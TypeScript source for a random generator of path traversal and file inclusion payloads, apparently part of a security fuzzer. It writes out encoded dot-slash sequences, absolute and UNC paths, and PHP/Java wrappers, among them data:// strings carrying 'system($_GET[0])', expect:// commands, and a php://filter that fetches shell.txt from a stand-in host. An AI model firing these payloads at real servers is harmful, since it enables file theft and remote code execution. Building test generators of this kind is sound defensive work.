// Ways to files outside of the site: dots and slashes in every way that some server has decoded them, in front of the
// files that are asked for, and wrappers that read files for PHP and Java.

import type { Picker } from './picker.ts';
import { DOTS, ENDS, SITE, SLASHES, UNIX, WINDOWS } from './traversal.table.ts';

function target(p: Picker, slash: string): string {
  const plain = p.pick([p.pick(UNIX), p.pick(UNIX), p.pick(WINDOWS), p.pick(SITE)]);
  return plain.replaceAll('/', () => slash);
}

function dots(p: Picker): string {
  const isPlain = p.chance(0.3);
  const dot = isPlain ? '..' : p.pick(DOTS);
  const slash = isPlain && p.chance(0.5) ? p.pick(['/', '\\']) : p.pick(SLASHES);
  const depth = p.chance(0.2) ? p.int(9, 24) : p.int(1, 8);
  const isMixed = p.chance(0.1);
  let up = '';
  for (let level = 0; level < depth; level += 1) up += isMixed ? p.pick(DOTS) + p.pick(SLASHES) : dot + slash;
  const front = p.pick([
    '',
    '',
    '',
    '',
    '/',
    slash,
    `${p.letters(2, 8)}/`,
    `/${p.letters(2, 8)}${slash}`,
    './',
    '//',
    'file://',
    'C:\\',
    '/var/www/images/',
    '\\',
    `${p.letters(2, 6)}.php/`,
    'static/',
    '%2f',
    '///',
    '/././',
    '.\\',
    '/%5c',
    `${p.letters(3, 6)}.jpg${slash}`,
    '/..',
    'c:/',
  ]);
  if (depth > 1 && p.chance(0.05)) return front + up;
  return front + up + target(p, p.chance(0.6) ? slash : '/') + p.pick(ENDS);
}

function absolute(p: Picker): string {
  const file = p.pick(UNIX);
  return p.pick([
    `/${file}`,
    `/${file}`,
    `//${file}`,
    `file:///${file}`,
    `file://localhost/${file}`,
    `C:\\${p.pick(WINDOWS).replaceAll('/', '\\')}`,
    `c:/${p.pick(WINDOWS)}`,
    `\\\\${p.letters(3, 8)}.example\\share\\${p.letters(2, 6)}.php`,
    `\\\\localhost\\c$\\${p.pick(WINDOWS).replaceAll('/', '\\')}`,
    `%2f${file.replaceAll('/', '%2f')}`,
    `%252f${file.replaceAll('/', '%252f')}`,
    `/./././././././${file}`,
    `/${file}%00`,
    `/%2e/${file}`,
    `///${file}`,
    `\\\\?\\C:\\${p.pick(WINDOWS).replaceAll('/', '\\')}`,
    `/proc/self/root/${file}`,
    `/${file.replaceAll('/', '/./')}`,
    `/${file.replaceAll('/', '//')}`,
    `FILE:///c|/${p.pick(WINDOWS)}`,
    `netdoc:///${file}`,
    `//localhost/${file}`,
    `/%c0%af${file}`,
    `/${p.letters(2, 6)}/..;/${p.letters(3, 8)}`,
    `/.%252e/.%252e/${file}`,
    `/cgi-bin/.%2e/.%2e/.%2e/${file}`,
    `/cgi-bin/%%32%65%%32%65/bin/sh`,
    `/icons/.%2e/%2e%2e/${file}`,
  ]);
}

function wrapper(p: Picker): string {
  const file = p.pick([p.pick(SITE), 'index.php', `/${p.pick(UNIX)}`, `../${p.pick(SITE)}`]);
  return p.pick([
    `php://filter/convert.base64-encode/resource=${file}`,
    `php://filter/read=string.rot13/resource=${file}`,
    `pHp://FilTer/convert.base64-encode/resource=${file}`,
    `php://filter/convert.iconv.utf-8.utf-16/resource=${file}`,
    `php://filter/zlib.deflate/convert.base64-encode/resource=${file}`,
    `php://filter/${p.many(2, 6, '|', () => `convert.iconv.${p.pick(['UTF8.CSISO2022KR', 'SE2.UTF-16', 'L5.UTF-32', 'UTF8.UTF7', 'IBM869.UTF16', 'ISO88594.GB13000'])}`)}/resource=php://temp`,
    'php://input',
    'php://stdin',
    `phar://${p.letters(2, 8)}.${p.pick(['jpg', 'phar', 'zip', 'png'])}/${p.letters(1, 6)}.php`,
    `zip://${p.letters(2, 8)}.jpg%23${p.letters(1, 6)}`,
    `zip://${p.letters(2, 8)}.zip#${p.letters(1, 6)}.php`,
    `data://text/plain,<?php ${p.pick(['phpinfo()', 'system($_GET[0])', 'echo 1'])};?>`,
    `data://text/plain;base64,PD9waHAg${p.from('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 10, 50)}`,
    `data:text/plain;base64,PD9waHAg${p.from('abcdefghijklmnopqrstuvwxyz0123456789', 10, 50)}`,
    `expect://${p.pick(['id', 'ls', 'whoami', 'cat /etc/passwd'])}`,
    `ogg://${file}`,
    `glob:///${p.letters(1, 4)}*`,
    `compress.zlib://${file}`,
    `compress.bzip2://${file}`,
    `rar://${p.letters(2, 8)}.rar#x`,
    `ssh2.exec://u:p@${p.letters(3, 8)}.example:22/ls`,
    `file:///${p.pick(UNIX)}`,
    `jar:http://${p.letters(3, 8)}.example/a.jar!/`,
    `jar:file:///tmp/a.jar!/x`,
    `php://fd/3`,
    `php://filter/resource=http://${p.letters(3, 8)}.example/shell.txt`,
  ]);
}

/** As bytes that were decoded once and are no UTF-8: what the site's own decoder leaves of overlong forms. */
function decodedOnce(text: string): string {
  const bytes: number[] = [];
  for (let at = 0; at < text.length; at += 1) {
    const hex = /^%[0-9a-f]{2}/iu.exec(text.slice(at, at + 3))?.[0];
    if (hex !== undefined) {
      bytes.push(Number.parseInt(hex.slice(1), 16));
      at += 2;
    } else bytes.push(...Buffer.from(text[at] ?? '', 'utf8'));
  }
  return Buffer.from(bytes).toString('utf8');
}

export function traversal(p: Picker): string {
  const kind = p.int(0, 99);
  const text = kind < 76 ? dots(p) : kind < 90 ? absolute(p) : wrapper(p);
  return text.includes('%') && p.chance(0.45) ? decodedOnce(text) : text;
}
